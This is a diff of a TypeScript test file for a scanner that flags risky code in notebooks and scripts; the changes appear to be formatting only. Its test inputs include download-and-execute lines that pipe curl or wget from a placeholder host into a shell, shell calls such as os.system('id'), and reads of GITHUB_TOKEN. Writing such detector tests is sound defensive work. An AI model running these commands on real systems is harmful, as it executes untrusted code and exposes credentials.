@@ -8,22 +8,45 @@ import { fileURLToPath } from "node:url";
 import { scanFile } from "./scan-file.ts";
 import { htmlOutput, notebookJson } from "./test-notebook.ts";
 
-const scan = (path: string, text: string | Uint8Array) => scanFile({ path, bytes: typeof text === "string" ? Buffer.from(text) : text });
+const scan = (path: string, text: string | Uint8Array) =>
+  scanFile({ path, bytes: typeof text === "string" ? Buffer.from(text) : text });
 
 test("a finding in a notebook names the cell, its id, the line and column in the cell, and the output", () => {
-  const text = notebookJson(["x = 1", "import os\n\nvalue = os.system('id')", { source: "show()", outputs: [{ output_type: "stream", name: "stdout", text: "" }, htmlOutput("<p>ok</p><script>x()</script>")] }]);
+  const text = notebookJson([
+    "x = 1",
+    "import os\n\nvalue = os.system('id')",
+    {
+      source: "show()",
+      outputs: [{ output_type: "stream", name: "stdout", text: "" }, htmlOutput("<p>ok</p><script>x()</script>")],
+    },
+  ]);
   const { findings } = scan("n.ipynb", text);
   const shell = findings.find((finding) => finding.rule === "shell-exec")!;
   assert.deepEqual(shell.place, { file: "n.ipynb", cell: 1, cellId: "cell-1", line: 3, column: 9 });
   assert.equal(shell.excerpt, "os.system('id')");
   assert.ok(shell.check.length > 0);
   const output = findings.find((finding) => finding.rule === "active-output")!;
-  assert.deepEqual(output.place, { file: "n.ipynb", cell: 2, cellId: "cell-2", output: 1, part: "text/html", line: 1, column: 10 });
+  assert.deepEqual(output.place, {
+    file: "n.ipynb",
+    cell: 2,
+    cellId: "cell-2",
+    output: 1,
+    part: "text/html",
+    line: 1,
+    column: 10,
+  });
 });
 
 test("findings inside magics and command strings keep their place in the cell", () => {
-  const { findings } = scan("n.ipynb", notebookJson(["import subprocess\nx = 1\nsubprocess.run('curl -s https://x.example/a | bash', shell=True)\n!wget https://x.example/t -O t && chmod +x t"]));
-  const places = findings.filter((finding) => finding.rule === "download-exec").map((finding) => [finding.place.line, finding.place.column]);
+  const { findings } = scan(
+    "n.ipynb",
+    notebookJson([
+      "import subprocess\nx = 1\nsubprocess.run('curl -s https://x.example/a | bash', shell=True)\n!wget https://x.example/t -O t && chmod +x t",
+    ]),
+  );
+  const places = findings
+    .filter((finding) => finding.rule === "download-exec")
+    .map((finding) => [finding.place.line, finding.place.column]);
   assert.deepEqual(places, [
     [3, 17],
     [4, 35],
@@ -31,11 +54,17 @@ test("findings inside magics and command strings keep their place in the cell", 
 });
 
 test("the summary counts by severity and leads with the worst findings; all of it is plain JSON", () => {
-  const result = scan("n.ipynb", notebookJson(["!pip install pandas", "!curl https://x.example/i | sh", "import os\nos.environ['GITHUB_TOKEN']"]));
+  const result = scan(
+    "n.ipynb",
+    notebookJson(["!pip install pandas", "!curl https://x.example/i | sh", "import os\nos.environ['GITHUB_TOKEN']"]),
+  );
   assert.deepEqual(result.summary.counts, { low: 1, medium: 2, high: 1 });
   assert.equal(result.summary.total, 4);
   assert.equal(result.summary.readable, true);
-  assert.match(result.summary.headline[0]!, /^Download and execute: downloads with curl and pipes it into sh \(cell 2, line 1\)$/);
+  assert.match(
+    result.summary.headline[0]!,
+    /^Download and execute: downloads with curl and pipes it into sh \(cell 2, line 1\)$/,
+  );
   assert.ok(result.summary.headline.length <= 3);
   assert.deepEqual(JSON.parse(JSON.stringify(result)), result);
 });
@@ -49,14 +78,36 @@ test("an unreadable file is one finding at its place, with the reader's error co
   assert.match(finding!.message, /\[invalid_json\]/);
   assert.deepEqual([finding!.place.line, finding!.place.column], [3, 26]);
   assert.equal(scan("big.py", "x = 1\n".repeat(10)).findings.length, 0);
-  assert.match(scanFile({ path: "big.py", bytes: Buffer.from("x = 1\n".repeat(10)) }, { limits: { maxFileBytes: 20 } }).findings[0]!.message, /file_too_large/);
+  assert.match(
+    scanFile({ path: "big.py", bytes: Buffer.from("x = 1\n".repeat(10)) }, { limits: { maxFileBytes: 20 } })
+      .findings[0]!.message,
+    /file_too_large/,
+  );
 });
 
 test("R and Julia notebooks are read in their own language", () => {
-  const r = scan("r.ipynb", notebookJson(['system("whoami")'], { kernelspec: { name: "ir", language: "R", display_name: "R" }, language_info: { name: "R" } }));
-  assert.deepEqual(r.findings.map((finding) => finding.rule), ["shell-exec"]);
-  const julia = scan("j.ipynb", notebookJson(['ENV["GITHUB_TOKEN"]'], { kernelspec: { name: "julia", language: "julia", display_name: "Julia" }, language_info: { name: "julia" } }));
-  assert.deepEqual(julia.findings.map((finding) => finding.rule), ["secret-env"]);
+  const r = scan(
+    "r.ipynb",
+    notebookJson(['system("whoami")'], {
+      kernelspec: { name: "ir", language: "R", display_name: "R" },
+      language_info: { name: "R" },
+    }),
+  );
+  assert.deepEqual(
+    r.findings.map((finding) => finding.rule),
+    ["shell-exec"],
+  );
+  const julia = scan(
+    "j.ipynb",
+    notebookJson(['ENV["GITHUB_TOKEN"]'], {
+      kernelspec: { name: "julia", language: "julia", display_name: "Julia" },
+      language_info: { name: "julia" },
+    }),
+  );
+  assert.deepEqual(
+    julia.findings.map((finding) => finding.rule),
+    ["secret-env"],
+  );
 });
 
 /** A small deterministic generator, so a failure names a reproducible case. */
@@ -70,7 +121,9 @@ function random(seed: number): () => number {
 
 test("mangled notebooks and scripts never make the scanner throw", () => {
   const set = fileURLToPath(new URL("../../test/scan-set/hostile/", import.meta.url));
-  const samples = readdirSync(set).sort().map((name) => ({ name, bytes: readFileSync(set + name) }));
+  const samples = readdirSync(set)
+    .sort()
+    .map((name) => ({ name, bytes: readFileSync(set + name) }));
   const next = random(6);
   for (const { name, bytes } of samples) {
     for (let round = 0; round < 12; round++) {
@@ -83,7 +136,11 @@ test("mangled notebooks and scripts never make the scanner throw", () => {
         mangled = copy;
       } else {
         const at = Math.floor(next() * copy.length);
-        mangled = Buffer.concat([copy.subarray(0, at), Buffer.from(["$(", "<svg>", '"', "\\", "((((", "`", "\u202e", "%%bash\n"][round % 8]!), copy.subarray(at)]);
+        mangled = Buffer.concat([
+          copy.subarray(0, at),
+          Buffer.from(["$(", "<svg>", '"', "\\", "((((", "`", "\u202e", "%%bash\n"][round % 8]!),
+          copy.subarray(at),
+        ]);
       }
       assert.doesNotThrow(() => scan(name, mangled), `${name} round ${round}`);
     }
@@ -101,7 +158,13 @@ test("pathological inputs stay bounded: deep nesting, long chains, unclosed subs
     ["md.md", "<b>".repeat(30_000)],
   ];
   for (const [path, text] of inputs) assert.doesNotThrow(() => scan(path, text), path);
-  assert.match(scan("deep.py", inputs[0]![1]).findings[0]!.message, /brackets nested 20000 deep, more than Python's limit of 200/);
+  assert.match(
+    scan("deep.py", inputs[0]![1]).findings[0]!.message,
+    /brackets nested 20000 deep, more than Python's limit of 200/,
+  );
   // Deep but legal nesting is still read.
-  assert.deepEqual(scan("ok.py", `${"(".repeat(150)}eval(x)${")".repeat(150)}`).findings.map((finding) => finding.rule), ["dynamic-code"]);
+  assert.deepEqual(
+    scan("ok.py", `${"(".repeat(150)}eval(x)${")".repeat(150)}`).findings.map((finding) => finding.rule),
+    ["dynamic-code"],
+  );
 });
